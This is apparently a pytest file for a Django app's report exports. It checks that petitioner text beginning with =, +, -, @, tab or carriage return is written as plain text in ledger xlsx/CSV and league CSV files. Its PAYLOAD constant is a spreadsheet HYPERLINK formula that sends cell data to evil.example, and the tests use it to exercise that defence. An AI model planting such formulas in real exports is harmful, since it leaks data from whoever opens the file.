"""Formula injection (issue 18 #7): text a petitioner typed that starts like a formula is
written as text in every spreadsheet the reports write (ledger xlsx and CSV, league CSV)."""

from __future__ import annotations

import csv
import io

import pytest
import time_machine
from openpyxl import load_workbook

from core.models import DepartmentKind
from reports.services import open_export, start_export

from .conftest import NOW, PERIOD, build_scenario

pytestmark = pytest.mark.django_db
PAYLOAD = 'HYPERLINK("http://evil.example/?d="&A2,"点击")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture(autouse=True)
def _now():
    with time_machine.travel(NOW, tick=False):
        yield


def _hostile_case(org, cast, text: str):
    scenario = build_scenario(org, cast)
    case = scenario.cases["c1"]
    case.request = text
    case.save(update_fields=["request"])
    petitioner = case.main_petitioner
    petitioner.name = text
    petitioner.save(update_fields=["name"])
    return case


def _export(cast, fmt: str) -> bytes:
    job = start_export(
        actor=cast["supervisor"],
        filters=PERIOD,
        columns=["number", "petitioner", "request", "headcount"],
        fmt=fmt,
    )
    assert job.state == "done", job.error
    with open_export(job) as handle:
        return handle.read()


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_ledger_xlsx_writes_formula_like_text_as_a_text_cell(org, cast, trigger):
    case = _hostile_case(org, cast, trigger + PAYLOAD)
    sheet = load_workbook(io.BytesIO(_export(cast, "xlsx"))).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case.number)
    for cell in row[1:3]:  # petitioner, request
        assert cell.data_type == "s", (trigger, cell.value)
        assert cell.quotePrefix, trigger
        assert cell.value.endswith(PAYLOAD)  # the text itself is kept as typed
    assert row[3].data_type == "n"  # numbers stay numbers
    # no formula anywhere in the sheet
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_ledger_csv_prefixes_formula_like_text_with_an_apostrophe(org, cast, trigger):
    case = _hostile_case(org, cast, trigger + PAYLOAD)
    raw = _export(cast, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    row = next(r for r in rows[1:] if r[0] == case.number)
    assert row[1] == row[2] == "'" + trigger + PAYLOAD
    assert row[3] == "6"  # c1 is a group visit of six: numbers are left alone


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_league_csv_prefixes_a_formula_like_unit_name(org, cast, client, trigger):
    scenario = build_scenario(org, cast)
    assert scenario.police.kind == DepartmentKind.POLICE
    # the unit cell is "center · department": its first characters are the center's name
    org.city.name = trigger + PAYLOAD
    org.city.save(update_fields=["name"])
    client.force_login(cast["leader"])
    response = client.get("/reports/league/?from=2026-03-01&to=2026-03-31&format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    names = [r[1] for r in rows[1:] if len(r) > 1]
    assert f"'{trigger}{PAYLOAD} · {scenario.police.name}" in names
    # the cell starts with the center's name, or with an apostrophe where it would not
    assert all(not n.startswith(tuple(TRIGGERS)) for r in rows for n in r)


def test_plain_text_is_left_alone(org, cast):
    from reports.ledger import csv_safe

    assert csv_safe("张三") == "张三"
    assert csv_safe("a=b") == "a=b"
    assert csv_safe(-5) == -5
    assert csv_safe(None) is None
